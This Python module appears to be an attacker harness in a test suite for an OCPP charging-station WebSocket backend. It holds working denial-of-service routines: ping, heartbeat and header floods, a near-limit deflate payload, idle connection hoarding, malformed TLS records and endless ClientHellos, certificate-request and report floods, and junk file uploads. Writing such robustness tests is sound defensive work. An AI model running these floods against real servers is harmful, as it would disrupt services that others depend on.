"""The attacks, each a function of the backend and of how long: what issue after issue found, and what is like it."""

from __future__ import annotations

import json
import socket
import time
import zlib
from collections.abc import Callable
from contextlib import suppress
from urllib.parse import urlsplit

from tests.attackers._measure import Target
from tests.attackers._wire import (
    CONT,
    PING,
    PONG,
    TEXT,
    connected,
    frame,
    ignoring_what_breaks,
    logged_in,
    message,
    shaken,
    upgrade,
)

Attack = Callable[[Target, float], None]
_CHUNK = 1 << 18


def _again_and_again(
    at: Target, for_s: float, octets: Callable[[int], bytes], *, reads: bool = True, **how: bool
) -> None:
    """Log in and send without end; when cut off, come again."""
    end, number = time.monotonic() + for_s, 0
    while time.monotonic() < end:
        with ignoring_what_breaks(), logged_in(at.port, **how) as sock:
            if not reads:
                sock.settimeout(0.5)
            else:
                sock.setblocking(False)
            while time.monotonic() < end:
                piece = memoryview(octets(number))
                number += 1
                while piece and time.monotonic() < end:
                    try:
                        piece = piece[sock.send(piece) :]
                    except BlockingIOError:
                        time.sleep(0.001)
                    if reads:
                        with suppress(BlockingIOError):
                            if not sock.recv(_CHUNK):
                                raise ConnectionResetError
        time.sleep(0.05)


def _many(one: bytes) -> Callable[[int], bytes]:
    block = one * (_CHUNK // len(one) + 1)
    return lambda _: block


def pings(at: Target, for_s: float) -> None:
    """Pings without end."""
    _again_and_again(at, for_s, _many(frame(PING, b"x" * 125)))


def pongs(at: Target, for_s: float) -> None:
    """Pongs that nobody asked for."""
    _again_and_again(at, for_s, _many(frame(PONG)))


def pings_unread(at: Target, for_s: float) -> None:
    """Pings by one that never reads the pongs."""
    _again_and_again(at, for_s, _many(frame(PING, b"x" * 125)), reads=False)


def empty_fragments(at: Target, for_s: float) -> None:
    """A message that begins and goes on with nothing."""
    more = _many(frame(CONT, fin=False))
    _again_and_again(at, for_s, lambda n: frame(TEXT, fin=False) + more(n) if n == 0 else more(n))


def empty_messages(at: Target, for_s: float) -> None:
    """Texts of no characters."""
    _again_and_again(at, for_s, _many(frame(TEXT)))


def heartbeats(at: Target, for_s: float) -> None:
    """What is valid, and too much of it."""
    _again_and_again(
        at, for_s, lambda n: b"".join(message(2, f"h{n}-{k}", "Heartbeat", {}) for k in range(_CHUNK // 128))
    )


def heartbeats_unread(at: Target, for_s: float) -> None:
    """The same by one that never reads the answers."""
    _again_and_again(
        at,
        for_s,
        lambda n: b"".join(message(2, f"h{n}-{k}", "Heartbeat", {}) for k in range(_CHUNK // 128)),
        reads=False,
    )


def compressed(at: Target, for_s: float) -> None:
    """Frames that inflate to just under the bound, of what is heaviest once it is read."""
    text = ('[2,"c","DataTransfer",{"vendorId":"v","data":[' + "{}," * 340_000 + "{}]}]").encode()
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    small = (packer.compress(text) + packer.flush(zlib.Z_SYNC_FLUSH))[:-4]
    packed = frame(TEXT, small, compressed=True)
    _again_and_again(at, for_s, lambda _: packed, deflate=True)


def emoji(at: Target, for_s: float) -> None:
    """Large texts that take four octets a character once they are read."""
    text = json.dumps([2, "e", "DataTransfer", {"vendorId": "v", "data": "a" * 900_000}])[:-3] + "\U0001f50c" + '"}]'
    _again_and_again(at, for_s, lambda _: frame(TEXT, text.encode()))


def endless_report(at: Target, for_s: float) -> None:
    """A report that always goes on."""
    end = time.monotonic() + for_s
    with ignoring_what_breaks(), logged_in(at.port) as sock:
        boot = {"reason": "PowerUp", "chargingStation": {"model": "M", "vendorName": "V"}}
        sock.sendall(message(2, "boot", "BootNotification", boot))
        at.tell("report")
        sock.settimeout(5)
        heard = b""
        while b"GetBaseReport" not in heard:
            heard += sock.recv(1 << 16)
        identifier = heard.partition(b'[2,"')[2].partition(b'"')[0].decode()
        request = int(heard.partition(b'"requestId":')[2].split(b",")[0].rstrip(b"}]"))
        sock.sendall(message(3, identifier, {"status": "Accepted"}))
        sock.setblocking(False)
        entry = {
            "component": {"name": "C"},
            "variable": {"name": "V"},
            "variableAttribute": [{"value": "x" * 900}],
            "variableCharacteristics": {"dataType": "string", "supportsMonitoring": False},
        }
        number = 0
        while time.monotonic() < end:
            head = {"requestId": request, "generatedAt": "2026-01-01T00:00:00Z", "seqNo": number, "tbc": True}
            piece = memoryview(message(2, f"r{number}", "NotifyReport", {**head, "reportData": [entry] * 800}))
            number += 1
            while piece and time.monotonic() < end:
                try:
                    piece = piece[sock.send(piece) :]
                except BlockingIOError:
                    time.sleep(0.001)
                with suppress(BlockingIOError):
                    if not sock.recv(_CHUNK):
                        return


def header_flood(at: Target, for_s: float) -> None:
    """Requests that are all header, by one who has no credentials."""
    more = "".join(f"Sec-WebSocket-Protocol: {'p' * 8000}\r\n" for _ in range(110))
    _as_strangers(at, for_s, upgrade("/ocpp/CS9" + "x" * 6000, password=None, more=more))


def header_flood_small(at: Target, for_s: float) -> None:
    """Small requests by one who has no credentials, as many as go."""
    _as_strangers(at, for_s, upgrade("/ocpp/CS999", password=None))


def garbage(at: Target, for_s: float) -> None:
    """What is no request at all."""
    _as_strangers(at, for_s, b"\x00\xff\r\n\r\n" * 50)


def _as_strangers(at: Target, for_s: float, octets: bytes) -> None:
    end = time.monotonic() + for_s
    while time.monotonic() < end:
        with ignoring_what_breaks(), connected(at.port) as sock:
            sock.settimeout(1)
            sock.sendall(octets)
            sock.recv(1 << 12)


def idle(at: Target, for_s: float) -> None:
    """A hundred connections that say nothing, renewed as one is given back; they stay while the charger comes."""
    end = time.monotonic() + for_s
    held: list[socket.socket] = []
    while time.monotonic() < end:
        with ignoring_what_breaks():
            held.append(connected(at.port))
        if len(held) >= 100:
            for sock in held[:40]:
                sock.setblocking(False)
                with suppress(BlockingIOError, OSError):
                    if sock.recv(1) == b"":
                        sock.close()
            held = [sock for sock in held if sock.fileno() >= 0][-400:]
            time.sleep(0.02)
    at.held += held


def tls_broken_record(at: Target, for_s: float) -> None:
    """A TLS handshake, then one record that cannot be read; the connection is never closed by the attacker."""
    _after_the_handshake(at, for_s, b"\x17\x03\x03\x00\x20" + b"\x5a" * 32)


def tls_plain_alert(at: Target, for_s: float) -> None:
    """A TLS handshake, then an alert in plaintext."""
    _after_the_handshake(at, for_s, b"\x15\x03\x03\x00\x02\x02\x28")


def _after_the_handshake(at: Target, for_s: float, octets: bytes) -> None:
    end = time.monotonic() + for_s
    held = []
    while time.monotonic() < end and len(held) < 70:
        with ignoring_what_breaks():
            sock = shaken(at.port, at.roots)
            held.append(sock)
            sock.sendall(octets)
    at.held += held


def tls_endless_hello(at: Target, for_s: float) -> None:
    """A ClientHello in records that never come to its end."""
    end = time.monotonic() + for_s
    record = b"\x16\x03\x01\x40\x00" + b"\x01\xff\xff\xff" + bytes(16380)
    while time.monotonic() < end:
        with ignoring_what_breaks(), connected(at.port) as sock:
            while time.monotonic() < end:
                sock.sendall(record * 16)


def signing(at: Target, for_s: float) -> None:
    """Forty requests for a certificate, and no answer to what comes of them."""
    from tests.attackers._csr import csr

    with ignoring_what_breaks(), logged_in(at.port) as sock:
        for number in range(40):
            sock.sendall(message(2, f"s{number}", "SignCertificate", {"csr": csr("CS001")}))
        sock.settimeout(0.5)
        end = time.monotonic() + for_s
        while time.monotonic() < end:
            with suppress(TimeoutError):
                if not sock.recv(_CHUNK):
                    return


def uploads(at: Target, for_s: float) -> None:
    """Uploads to the file server under ever new names."""
    end, number = time.monotonic() + for_s, 0
    where = urlsplit(at.files)
    body = bytes(8 << 20)
    while time.monotonic() < end:
        number += 1
        with ignoring_what_breaks(), socket.create_connection((where.hostname, where.port), 5) as sock:
            sock.sendall(
                f"PUT /junk{number} HTTP/1.1\r\nHost: x\r\nContent-Length: {len(body)}\r\n\r\n".encode() + body
            )
            sock.recv(1 << 12)


def files_garbage(at: Target, for_s: float) -> None:
    """What is no request, to the file server."""
    end = time.monotonic() + for_s
    where = urlsplit(at.files)
    while time.monotonic() < end:
        with ignoring_what_breaks(), socket.create_connection((where.hostname, where.port), 5) as sock:
            sock.sendall(b"GET /" + b"x" * 8000 + b" HTTP/1.1\r\n\r\n")
            sock.recv(1 << 12)


PLAIN: tuple[Attack, ...] = (
    pings,
    pongs,
    pings_unread,
    empty_fragments,
    empty_messages,
    heartbeats,
    heartbeats_unread,
    compressed,
    emoji,
    endless_report,
    header_flood,
    header_flood_small,
    garbage,
    idle,
    signing,
    uploads,
    files_garbage,
)
SECURE: tuple[Attack, ...] = (tls_broken_record, tls_plain_alert, tls_endless_hello)
ALL: dict[str, tuple[Attack, int]] = {
    each.__name__: (each, profile) for shelf, profile in ((PLAIN, 1), (SECURE, 2)) for each in shelf
}
